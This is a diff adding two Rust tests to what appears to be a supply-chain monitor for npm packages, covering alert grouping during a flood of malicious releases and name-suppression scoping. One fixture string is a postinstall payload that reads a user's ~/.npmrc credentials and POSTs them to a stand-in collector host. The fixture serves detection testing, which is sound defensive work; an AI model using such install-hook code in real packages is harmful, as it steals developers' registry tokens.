@@ -312,3 +312,77 @@ fn sending_needs_a_store_and_a_sink() {
     assert!(run.stderr.contains("no store"), "{}", run.stderr);
     assert!(!capdex.path().join("capdex.db").exists(), "nothing is made");
 }
+
+/// Forty packages of one account turn against their users in one night, each with another helper beside him, and a package of
+/// somebody else does.
+#[test]
+fn whoever_floods_a_night_keeps_nobody_else_out_of_the_first_message() {
+    const STOLEN: &str = "const { readFileSync } = require(\"fs\");\nconst text = readFileSync(process.env.HOME + \"/.npmrc\", \"utf8\");\n\
+                          fetch(\"https://in.collector.test/v1\", { method: \"POST\", body: text });\n";
+    let registry = packages::registry();
+    let capdex = Capdex::with(&registry);
+    let names: Vec<String> = (0..40).map(|number| format!("tides-{number:02}")).chain(["ledgers".to_owned()]).collect();
+    let listed: Vec<&str> = names.iter().map(String::as_str).collect();
+    capdex.write("schedule.toml", format!("{}[alerts]\nbudget = 20\n{LOG}", packages::schedule(&listed, &[])));
+    for (version, script, source) in [
+        ("1.0.0", "", "module.exports = 1;\n"),
+        ("1.0.1", ", \"scripts\": {\"postinstall\": \"node index.js\"}", STOLEN),
+    ] {
+        for (number, name) in names.iter().enumerate() {
+            let manifest =
+                format!("{{\"name\": \"{name}\", \"version\": \"{version}\", \"license\": \"MIT\"{script}}}");
+            registry.npm_package(
+                name,
+                version,
+                &[("package.json", manifest.as_bytes()), ("index.js", source.as_bytes())],
+            );
+            let helper = format!("helper-{}", number % 5);
+            let owners = if name == "ledgers" { vec!["ann"] } else { vec!["mallory", &helper] };
+            registry.npm_owners(name, &owners);
+        }
+        let run = night(&capdex, if version == "1.0.0" { "2026-11-20T01:00:00Z" } else { NIGHT });
+        assert!(matches!(run.code, Some(0 | 3)), "{}", run.stdout);
+    }
+    let text = std::fs::read_to_string(capdex.path().join("told.jsonl")).expect("told");
+    let messages: Vec<Value> = text.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
+    let of_drift = |message: &&Value| message["data"]["pass"] == "drift" && message["data"]["severity"] == "critical";
+    assert!(messages.iter().filter(of_drift).count() >= 10, "the control: a flood {text:.2000}");
+    let others = messages[0]["others"].to_string();
+    assert!(others.contains("npm-user:mallory") && others.contains("npm-user:ann"), "{others}");
+    assert!(others.contains("ledgers"), "{others}");
+    let alone =
+        |message: &&Value| message["data"]["subject"].as_str().is_some_and(|subject| subject.contains("ledgers"));
+    assert!(messages.iter().any(|message| alone(&message)), "{text:.2000}");
+    let digest = messages.last().expect("messages");
+    assert_eq!(digest["type"], "alert.digest");
+    let subjects: Vec<&str> =
+        digest["data"]["first"].as_array().expect("lines").iter().filter_map(|line| line["title"].as_str()).collect();
+    assert_eq!(subjects.iter().collect::<std::collections::BTreeSet<_>>().len(), subjects.len(), "{subjects:?}");
+    assert!(digest["data"]["groups"].to_string().contains("npm-user:mallory"), "{digest}");
+}
+
+/// A readable name folds unlike names to one text: a line of the operator's about one is none about its twin.
+#[test]
+fn what_an_operator_keeps_back_is_one_package_and_no_twin_of_its_name() {
+    let registry = packages::registry();
+    let capdex = Capdex::with(&registry);
+    let names = ["tides-mcp", "tides_mcp", "@tides/mcp"];
+    let line = "[[alerts.suppress]]\nsubject = \"npm:tides-mcp\"\nreason = \"ours\"\nexpires = \"2027-01-01\"\n";
+    capdex.write("schedule.toml", format!("{}{LOG}{line}", packages::schedule(&names, &[])));
+    for (source, day) in [("module.exports = 1;\n", "20"), ("module.exports = 2;\n", "21")] {
+        for name in names {
+            let manifest = format!("{{\"name\": \"{name}\", \"version\": \"1.0.0\", \"license\": \"MIT\"}}");
+            registry.npm_package(
+                name,
+                "1.0.0",
+                &[("package.json", manifest.as_bytes()), ("index.js", source.as_bytes())],
+            );
+        }
+        let run = night(&capdex, &format!("2026-11-{day}T01:00:00Z"));
+        assert!(matches!(run.code, Some(0 | 3)), "{}", run.stdout);
+    }
+    let states = open(&capdex, NIGHT, &["--all"]);
+    let of = |state: &str| states.iter().filter(|(key, is)| key.starts_with("drift:") && is == state).count();
+    assert_eq!((of("suppressed"), of("open")), (1, 2), "{states:?}");
+    assert_eq!(told(&capdex).iter().filter(|said| said.starts_with("alert.raised drift:")).count(), 2);
+}
